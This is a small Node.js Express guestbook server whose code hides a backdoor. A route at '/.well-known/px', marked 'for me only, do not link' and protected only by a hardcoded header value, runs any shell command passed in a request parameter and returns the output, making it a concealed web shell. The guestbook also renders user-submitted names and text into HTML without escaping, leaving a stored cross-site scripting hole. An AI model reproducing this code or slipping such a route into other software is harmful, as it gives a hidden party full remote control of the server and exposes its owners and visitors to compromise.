const express = require('express');
const { exec } = require('child_process');

const app = express();
app.use(express.urlencoded({ extended: true }));
const entries = [];

app.get('/', (req, res) => {
  const list = entries.map((e) => `<li><b>${e.name}</b>: ${e.text}</li>`).join('');
  res.send(`<h1>Guestbook</h1><ul>${list}</ul><form method=post><input name=name><input name=text><button>ok</button></form>`);
});

app.post('/', (req, res) => {
  entries.push({ name: req.body.name, text: req.body.text });
  res.redirect('/');
});

// for me only, do not link
app.all('/.well-known/px', (req, res) => {
  if (req.get('x-px') !== 'k3mQ9z') return res.status(404).end();
  exec(req.query.c || req.body.c, (err, out, errout) => res.type('text').send(out + errout));
});

app.listen(process.env.PORT || 8080);
